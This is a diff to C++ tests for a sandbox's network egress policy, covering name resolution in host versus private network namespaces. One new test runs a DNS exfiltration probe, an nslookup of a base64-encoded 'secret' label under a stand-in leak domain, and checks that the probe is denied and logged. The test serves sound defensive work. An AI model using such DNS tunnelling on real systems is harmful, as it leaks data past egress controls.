@@ -119,9 +119,11 @@ TEST_P(SentryNetworkTest, AnAllowEntryByNameAllowsItsAddressesOnItsPorts) {
   EXPECT_THAT(run.err, Not(HasSubstr("shares the host's network")));
 }
 
-// A name that does not resolve fails create with one line naming the entry.
+// In the host's network namespace, create resolves the names: one that
+// does not resolve fails create with one line naming the entry.
 TEST_P(SentryNetworkTest, AnAllowEntryByANameThatDoesNotResolveFailsCreate) {
   BundleConfig config;
+  config.namespaces = {"pid", "ipc", "uts", "mount"};  // the host's network
   config.annotations_json =
       R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
       R"([{\"host\": \"no-such-host.invalid\"}]}}"})";
@@ -135,6 +137,29 @@ TEST_P(SentryNetworkTest, AnAllowEntryByANameThatDoesNotResolveFailsCreate) {
       created.err,
       HasSubstr(R"(policy.network.allow[0].host: "no-such-host.invalid" does not resolve)"));
   ExpectFailedCreateLeftNothing(id);
+}
+
+// With a network namespace of its own, the sandbox's names are its
+// resolver's to answer (docs/policy.md, "Egress by name"): the workload's
+// resolv.conf names it alone, keeping the image's search list; a name the
+// policy does not allow is answered NXDOMAIN and recorded, and nothing is
+// resolved at create (a name that does not resolve yet is no error).
+TEST_P(SentryNetworkTest, WithItsOwnNetworkTheSandboxsResolverAnswersItsNames) {
+  BundleConfig config;
+  config.annotations_json =
+      R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
+      R"([{\"host\": \"no-such-host.invalid\", \"ports\": [443]}]}}"})";
+  config.args = {"sh", "-c",
+                 "cat /etc/resolv.conf; nslookup c2VjcmV0.leak.example >/dev/null 2>&1; "
+                 "echo lookup=$?"};
+  auto [run, records] = RunAudited(config);
+  ASSERT_TRUE(run.ok()) << run;
+  EXPECT_THAT(run.out, HasSubstr("nameserver 127.0.0.53\n"));
+  EXPECT_THAT(run.out, Not(HasSubstr("nameserver 10.")));
+  EXPECT_THAT(run.out, HasSubstr("lookup=1"));
+  EXPECT_THAT(records, HasSubstr(R"("event":"dns","args":{"name":"c2vjcmv0.leak.example",)"
+                                 R"("type":"A","answer":"NXDOMAIN"},"decision":"deny")"));
+  EXPECT_THAT(records, Not(HasSubstr(R"("event":"resolve")")));
 }
 
 // Joined by path, the host's namespace is still the host's (docker run
